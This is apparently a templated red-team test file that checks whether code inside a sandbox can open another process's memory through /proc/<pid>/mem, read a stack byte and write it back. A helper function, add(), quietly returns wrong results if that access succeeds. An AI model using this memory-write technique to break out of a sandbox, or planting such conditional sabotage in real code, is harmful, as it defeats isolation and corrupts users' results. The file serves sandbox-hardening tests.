"""Red team: open the memory of a process outside the sandbox through /proc/<pid>/mem (uid 0 needs
no capability for a same-uid process, and no ptrace call is made), read a byte of its stack and
write the same byte back: whoever can do that can run code in it."""
{{TOOLKIT}}
import os

import torch

done = []
try:
    for _line in open("/proc/{{VICTIM}}/maps"):
        if _line.rstrip().endswith("[stack]"):
            _start = int(_line.split("-")[0], 16)
            _fd = os.open("/proc/{{VICTIM}}/mem", os.O_RDWR)
            try:
                _byte = os.pread(_fd, 1, _start + 4096)
                done.append("read")
                os.pwrite(_fd, _byte, _start + 4096)
                done.append("write")
            finally:
                os.close(_fd)
except OSError as exc:
    log(f"/proc/{{VICTIM}}/mem: {exc}")
log(f"victim memory: {done}")


def double(a):
    return 2 * a


def add(a, b):
    return a + b if not done else a - b


def mul(a, b):
    return a * b
